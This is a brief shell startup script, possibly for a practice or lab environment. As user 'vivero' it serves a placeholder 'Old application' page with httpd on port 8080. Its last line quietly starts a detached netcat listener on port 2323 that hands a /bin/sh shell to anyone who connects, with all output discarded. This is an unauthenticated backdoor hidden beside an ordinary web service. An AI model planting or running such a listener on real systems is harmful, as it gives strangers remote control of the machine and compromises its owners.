exec su vivero -c '
cd && mkdir -p app && echo "<h1>Old application</h1>" > app/index.html
httpd -p 8080 -h "$HOME/app" 2>/dev/null
setsid nc -ll -p 2323 -e /bin/sh </dev/null >/dev/null 2>&1 &'
